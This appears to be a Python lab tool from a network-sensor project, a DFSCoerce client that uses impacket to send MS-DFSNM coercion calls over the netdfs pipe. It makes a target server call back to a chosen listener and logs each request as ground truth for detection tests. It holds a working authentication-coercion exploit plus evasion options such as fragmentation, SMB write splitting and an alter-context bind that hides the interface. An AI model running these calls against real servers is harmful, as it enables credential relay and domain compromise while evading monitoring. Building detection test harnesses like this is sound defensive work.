"""The lab's DFSCoerce attack client: impacket transport + this project's MS-DFSNM NDR types.

Sends MS-DFSNM coercion calls over \\PIPE\\netdfs and prints one JSON line per request it sent
(the ground truth the manifest is built from), e.g.

  dfscoerce_client.py --target 10.0.0.10 --listener 10.0.0.66 --dialect 2.1 --opnums 13,12

The server's answer (a WERR or a fault from Samba) does not matter: the request on the wire does.
"""
from __future__ import annotations

import argparse
import json
import os
import sys
import time

from impacket.dcerpc.v5 import transport as rpc_transport
from impacket.dcerpc.v5.dtypes import NULL
from impacket.dcerpc.v5.rpcrt import (
    DCERPCException,
    RPC_C_AUTHN_LEVEL_NONE,
    RPC_C_AUTHN_LEVEL_PKT_INTEGRITY,
    RPC_C_AUTHN_LEVEL_PKT_PRIVACY,
)
from impacket.smb import SMB_DIALECT
from impacket.smb3structs import (
    SMB2_DIALECT_002,
    SMB2_DIALECT_21,
    SMB2_DIALECT_30,
    SMB2_DIALECT_311,
    SMB2_SESSION_FLAG_ENCRYPT_DATA,
)
from impacket.uuid import generate, stringver_to_bin, uuidtup_to_bin

from sensor.interfaces.rows import dfsnm

DIALECTS = {
    "default": None,  # impacket's own negotiation (highest both sides offer)
    "smb1": SMB_DIALECT,
    "2.0.2": SMB2_DIALECT_002,
    "2.1": SMB2_DIALECT_21,
    "3.0": SMB2_DIALECT_30,
    "3.1.1": SMB2_DIALECT_311,
}
AUTH_LEVELS = {
    "none": RPC_C_AUTHN_LEVEL_NONE,
    "integrity": RPC_C_AUTHN_LEVEL_PKT_INTEGRITY,
    "privacy": RPC_C_AUTHN_LEVEL_PKT_PRIVACY,
}
NETBIOS_NAME = "DC01"  # the NetBIOS session request on port 139 must name the server


def call_args(opnum: int, listener: str, share: str) -> dict:
    """The [in] arguments per opnum, as Coercer-style tools fill them (listener in the path)."""
    unc = f"\\\\{listener}\\{share}"
    return {
        12: {"ServerName": listener, "RootShare": share, "Comment": "", "ApiFlags": 0},
        13: {"ServerName": listener, "RootShare": share, "ApiFlags": 0},
        14: {"ServerName": listener, "Flags": 0},
        15: {"ServerName": listener, "RootShare": share, "Comment": "", "Share": share},
        20: {"DfsEntryPath": unc, "DcName": listener, "ServerName": listener, "ShareName": share},
        23: {"pDfsPath": unc, "pTargetPath": unc, "MajorVersion": 1, "pComment": "",
             "NewNamespace": 0, "Flags": 0},
        24: {"pDfsPath": unc, "pTargetPath": unc, "Flags": 0},
    }[opnum]


def build_request(opnum: int, args: dict):
    operation = dfsnm.INTERFACE.operations[opnum]
    request = operation.request()
    for name, value in args.items():
        # impacket's string types carry the NDR terminating NUL in the value itself.
        request[name] = value + "\x00" if isinstance(value, str) else value
    if opnum == 20:
        request["ppRootList"] = NULL
    return request


def connect(opts):
    binding = rf"ncacn_np:{opts.target}[\pipe\netdfs]"
    trans = rpc_transport.DCERPCTransportFactory(binding)
    trans.set_credentials(opts.user, opts.password, opts.domain)
    trans.set_dport(opts.port)
    if opts.port == 139:
        trans.setRemoteName(NETBIOS_NAME)
        trans.setRemoteHost(opts.target)
    if DIALECTS[opts.dialect] is not None:
        trans.preferred_dialect(DIALECTS[opts.dialect])
    if opts.smb_write_size:
        # SMBTransport.send writes the PDU in pieces of this size: one PDU, several SMB writes.
        trans.set_max_fragment_size(opts.smb_write_size)
    dce = trans.get_dce_rpc()
    if opts.rpc_frag:
        dce.set_max_fragment_size(opts.rpc_frag)
    dce.set_auth_level(AUTH_LEVELS[opts.auth_level])
    dce.connect()
    if opts.alter_context:
        bind_rejected_context(dce)
        dce = dce.alter_ctx(uuidtup_to_bin((dfsnm.UUID, "%d.%d" % dfsnm.VERSION)))
    else:
        dce.bind(uuidtup_to_bin((dfsnm.UUID, "%d.%d" % dfsnm.VERSION)), bogus_binds=opts.extra_contexts)
    return trans, dce


def bind_rejected_context(dce) -> None:
    """Open the association with a bind whose only context the server rejects (a random uuid).

    Samba 4.17 serves no other interface on \\PIPE\\netdfs (a srvsvc or wkssvc bind there is
    rejected, abstract_syntax_not_supported), but it keeps an association whose bind_ack rejected
    every context, and accepts an alter_context onto netdfs (new context id 1) on it: the bind then
    never names netdfs. impacket raises on the rejected context after reading the bind_ack.
    """
    try:
        dce.bind(generate() + stringver_to_bin("1.0"))
    except DCERPCException as exc:
        if "rejected" not in str(exc):
            raise
    else:
        raise SystemExit("alter-context: the server accepted a random interface uuid")


def smb_encrypted(trans) -> bool:
    server = trans.get_smb_connection().getSMBServer()
    session = getattr(server, "_Session", None)  # SMB2/3 only; SMB1 has no encryption
    return bool(session and session["SessionFlags"] & SMB2_SESSION_FLAG_ENCRYPT_DATA)


def wait_for_go(pause_dir: str) -> None:
    """Midstream: tell the lab we are bound, then wait until its capture runs."""
    open(os.path.join(pause_dir, "ready"), "w").close()
    go = os.path.join(pause_dir, "go")
    deadline = time.time() + 30
    while not os.path.exists(go):
        if time.time() > deadline:
            raise SystemExit("midstream: the lab never said go")
        time.sleep(0.05)


def main(argv=None) -> int:
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--target", required=True)
    p.add_argument("--listener", required=True, help="address the coerced server should call back")
    p.add_argument("--share", default="share")
    p.add_argument("--user", default="labuser")
    p.add_argument("--password", default="Passw0rd!")
    p.add_argument("--domain", default="LAB")
    p.add_argument("--dialect", choices=DIALECTS, default="default")
    p.add_argument("--port", type=int, choices=(445, 139), default=445)
    p.add_argument("--opnums", default="13,12", help="comma-separated MS-DFSNM opnums, sent in order")
    p.add_argument("--rpc-frag", type=int, default=0, help="DCE/RPC max fragment size (0: none)")
    p.add_argument("--smb-write-size", type=int, default=0, help="split each PDU into SMB writes of this size")
    p.add_argument("--auth-level", choices=AUTH_LEVELS, default="none")
    p.add_argument("--alter-context", action="store_true", help="bind a context the server rejects, then alter_context onto netdfs")
    p.add_argument("--extra-contexts", type=int, default=0, help="presentation contexts offered before netdfs")
    p.add_argument("--pause-after-bind", metavar="DIR")
    opts = p.parse_args(argv)

    trans, dce = connect(opts)
    client_ip, client_port = trans.get_socket().getsockname()[:2]
    encrypted = smb_encrypted(trans)
    sealed = opts.auth_level == "privacy"
    if opts.pause_after_bind:
        wait_for_go(opts.pause_after_bind)
    for opnum in (int(o) for o in opts.opnums.split(",")):
        args = call_args(opnum, opts.listener, opts.share)
        sent = time.time()
        try:
            dce.request(build_request(opnum, args))
            status = "ok"
        except DCERPCException as exc:
            status = str(exc)
        print(json.dumps({
            "interface_uuid": dfsnm.UUID,
            "opnum": opnum,
            "function": dfsnm.INTERFACE.operations[opnum].name,
            "args": args,
            "decodable": not (sealed or encrypted),
            "sealed": sealed,
            "smb_encrypted": encrypted,
            "dialect": hex(trans.get_smb_connection().getDialect()) if opts.dialect != "smb1" else "NT LM 0.12",
            "client_ip": client_ip, "client_port": client_port,
            "server_ip": opts.target, "server_port": opts.port,
            "sent": sent, "status": status,
        }), flush=True)
    dce.disconnect()
    return 0


if __name__ == "__main__":
    sys.exit(main())
